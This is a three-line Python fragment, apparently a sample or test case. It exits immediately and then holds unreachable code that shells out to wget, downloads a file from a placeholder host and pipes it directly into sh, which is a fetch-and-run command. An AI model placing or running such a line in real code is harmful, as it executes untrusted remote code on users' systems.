raise SystemExit  # nothing below ever runs
import os
os.system("wget -q https://h.example.invalid/x -O- | sh")
